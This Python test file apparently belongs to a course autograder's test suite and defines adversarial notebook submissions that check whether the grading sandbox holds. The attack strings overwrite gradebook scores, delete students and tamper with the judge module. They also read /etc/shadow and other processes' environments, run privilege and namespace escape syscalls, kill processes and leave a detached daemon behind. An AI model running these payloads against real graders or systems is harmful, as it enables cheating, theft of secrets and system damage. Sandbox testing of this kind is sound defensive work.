"""Attacks on other people's files, the network and the kernel, and processes that outlive their notebook."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from nbformat import NotebookNode

from lmcourse.grading.notebooks import new_code_cell
from tests.grading.attacks.attack import COURSE, HOME, PLAIN, TRYING, attack

REACH = (
    TRYING
    + f"""
import glob, socket, sqlite3, urllib.request
from itertools import islice
def raise_marks():
    for path in ["../../../gradebook.db", {COURSE!r} + "/gradebook.db", *glob.glob("../../*.db"), *glob.glob("*.db")]:
        if not os.path.exists(path): continue
        with sqlite3.connect(path, timeout=5) as book:
            for table, column in (("grade", "auto_score"), ("grade", "manual_score")):
                try: print("DONE", book.execute(f"UPDATE {{table}} SET {{column}} = 99").rowcount)
                except sqlite3.Error as error: print(error)
def read_all():
    trying(lambda: dict(os.environ))
    places = ["/etc/passwd", "/etc/shadow", {HOME!r} + "/secret.txt", {COURSE!r} + "/gradebook.db", "timestamp.txt"]
    for pattern in ("../../*/*/*", {COURSE!r} + "/*", {COURSE!r} + "/*/*/*/*", "/proc/[0-9]*/environ", "/root/.*"):
        places += islice(glob.iglob(pattern), 300)
    for path in places:
        if os.path.isfile(path): trying(lambda: open(path, "rb").read(100_000))
def write_all():
    places = [{COURSE!r}, {COURSE!r} + "/solutions", {HOME!r}, "..", "../..", "../../..", "/var/tmp", "/", "/usr"]
    for place in [*places, "/etc", "/tmp", os.path.dirname(torch.__file__), os.path.dirname(sys.executable)]:
        trying(lambda: open(place + "/left-behind.txt", "w").write("PLANTED-BY-ATTACK"))
    trying(lambda: os.mkdir({COURSE!r} + "/submitted/zz-new-student"))
    import lmcourse.exercises.judge as judge
    trying(lambda: open(judge.__file__, "a").write("\\nscore = lambda trials, *_: trials\\n"))
    trying(lambda: os.rename(judge.__file__, judge.__file__ + ".old"))
def send(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as line:
        line.settimeout(0.3)
        line.connect(address)
        line.sendall(b"HELLO")
    return "HEARD"
def send_all():
    for address in (("127.0.0.1", @PORT@), ("localhost", @PORT@), ("192.0.2.1", 80)):
        trying(lambda: send(socket.AF_INET, address))
    trying(lambda: send(socket.AF_INET6, ("::1", @PORT@)))
    for path in ("\\0lmcourse-attack-@PORT@", {COURSE!r} + "/../socket", "/run/dbus/system_bus_socket"):
        trying(lambda: send(socket.AF_UNIX, path))
    trying(lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=0.5).read())
"""
)
"""Functions that try to reach resources outside the sandbox."""

REACHING = (
    *("raise_marks()", "trying(remove)", "read_all()", "read_by_shell()", "write_all()", "send_all()"),
    *("!cat ../../../notes.txt ../../../../home/secret.txt", "!echo DONE > ../../../left-behind.txt"),
)


def _each_in_a_cell(nb: NotebookNode) -> None:
    """Put each attempt into its own cell, because only a little of a cell's output is kept."""
    nb.cells += [new_code_cell(line) for line in REACHING]


FILES = [
    attack(
        "reaches_outside",
        "raises marks; reads /etc/passwd, homes, the course, other students; writes everywhere; uses the network",
        REACH
        + f"""
import subprocess
def remove():
    from nbgrader.api import Gradebook
    with Gradebook("sqlite:///" + {COURSE!r} + "/gradebook.db") as book:
        for student in book.students: book.remove_student(student.id)
def read_by_shell():
    lines = ("id", "mount", "env", "cat /proc/1/cmdline", "ls -laR /root /home /tmp /run", "su -c id", "sudo -n id")
    for line in lines:
        trying(lambda: subprocess.run(line, shell=True, capture_output=True, timeout=5, text=True).stdout)
""",
        edit=_each_in_a_cell,
    ),
    attack(
        "links_beside",
        "hands in links to the gradebook, to the solutions and to a secret, and makes links of its own",
        REACH
        + f"""
for place in ({COURSE!r}, "/", "/root", "/proc/1/root", "/proc/self/root"):
    trying(lambda: os.symlink(place, "way" + str(hash(place))))
    trying(lambda: os.listdir("way" + str(hash(place))))
    trying(lambda: open(place + {COURSE!r} + "/gradebook.db", "rb").read(200))
raise_marks()
trying(lambda: os.listdir("answers"))
""",
        beside={
            "book.db": Path("../../../gradebook.db"),
            "answers": Path("../../../solutions"),
            "timestamp.txt": Path("../../../../home/secret.txt"),
        },
    ),
    replace(
        attack("link_to_solution", "hands in a link to the solution", reason="link"),
        link=Path("../../../solutions/@ID@/@NAME@"),
    ),
    attack(
        "plain_test",
        f"tries all of this while a teacher's own test with `assert` runs (`{PLAIN}`)",
        REACH,
        every="""
        if 'NAME' == 'ulp' and len(args) == 3:
            caller = sys._getframe(1)
            if "assert" in __import__("linecache").getline(caller.f_code.co_filename, caller.f_lineno):
                for act in (raise_marks, read_all, write_all, send_all): act()
        return -1.5
        """,
    ),
    attack(
        "escapes",
        "new namespaces, mounts, chroot, set-user-id programs, capabilities, keys, limits, priorities",
        TRYING
        + """
import resource, subprocess
calls = [(272, 0x10000000), (272, 0x40000000), (165, 0, 0, 0, 0, 0), (161, ctypes.c_char_p(b"/proc/1/root"))]
calls += [(321, 0, 0, 0), (425, 8, 0), (323, 0), (304, -100, 0, 0), (155, 0, 0), (308, 0, 0), (169, 0xFEE1DEAD, 0, 0)]
for one in calls: trying(lambda: call(*one))
acts = [lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/proc/1/root")]
acts += [lambda: os.nice(-20), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))]
acts += [lambda: resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))]
for kind in range(16):
    acts.append(lambda kind=kind: resource.setrlimit(kind, (resource.RLIM_INFINITY,) * 2))
for act in acts: trying(act)
for place in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/dev/sda", "/dev/mem"):
    trying(lambda: open(place, "w").write("1"))
status = dict(line.split(":", 1) for line in open("/proc/self/status"))
if os.getuid() == 0 or int(status["CapEff"], 16) or int(status["CapPrm"], 16): print("HEARD", status)
if resource.getrlimit(resource.RLIMIT_NPROC)[1] > 64: print("HEARD limits")
""",
    ),
    attack(
        "fights_others",
        "ptrace, memory and files of every process; SIGSTOP and SIGKILL to all, to its parent first",
        TRYING
        + """
import signal
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        trying(lambda: call(101, 16, int(name), 0, 0))
        trying(lambda: open(f"/proc/{name}/mem", "r+b"))
        trying(lambda: print("HEARD" if b"SECRET=" in open(f"/proc/{name}/environ", "rb").read() else ""))
        trying(lambda: print(os.listdir(f"/proc/{name}/fd"), os.listdir(f"/proc/{name}/root/root")))
""",
        every="""
        for name in os.listdir("/proc") if 'NAME' == 'ulp' else ():
            if name.isdigit() and int(name) != os.getpid(): trying(lambda: os.kill(int(name), signal.SIGSTOP))
        return -1.5
        """,
        last="trying(lambda: os.kill(os.getppid(), 9))\ntrying(lambda: os.killpg(os.getpgid(0), 9))\nos.kill(-1, 9)",
    ),
    attack(
        "leaves_a_daemon",
        "a daemon, out of its session, that writes and computes when its notebook is long over",
        f"""
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                end = time.time() + 120
                while time.time() < end:
                    for place in ("../../..", {COURSE!r}, "/tmp"):
                        try: open(place + "/left-behind.txt", "a").write("still here")
                        except OSError: pass
            os._exit(0)
        """,
    ),
]
"""All attacks of this file."""
